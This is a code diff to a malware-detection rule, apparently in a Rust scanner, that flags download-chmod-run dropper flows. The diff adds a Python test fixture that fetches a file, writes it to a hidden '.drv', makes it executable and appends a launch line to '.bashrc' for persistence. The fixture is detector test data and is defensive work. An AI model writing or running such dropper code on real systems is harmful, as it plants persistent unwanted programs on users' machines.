@@ -48,7 +48,7 @@ pub const FETCH_RUN: Rule = derived(
     F,
     Severity::High,
     Confidence::Medium,
-    "Downloads a file, makes it executable or writes it, and runs a process in the same file",
+    "Downloads a file, makes it executable, and runs it (process, file write or start-up file) in the same file",
     "Fetch + write + chmod + run is the dropper flow.",
     &[
         fires(
@@ -58,6 +58,10 @@ pub const FETCH_RUN: Rule = derived(
         quiet(
             "a.py",
             "import requests, subprocess\nr = requests.get(u)\nsubprocess.run(['git', 'status'])\n",
+        ),
+        fires(
+            "a.py",
+            "r = urllib2.urlopen(U)\nd = open('.drv', 'wb')\nd.write(r.read())\nos.chmod('.drv', st.st_mode | stat.S_IEXEC)\nopen('.bashrc', 'a').write('~/.drv &')\n",
         ),
     ],
 )
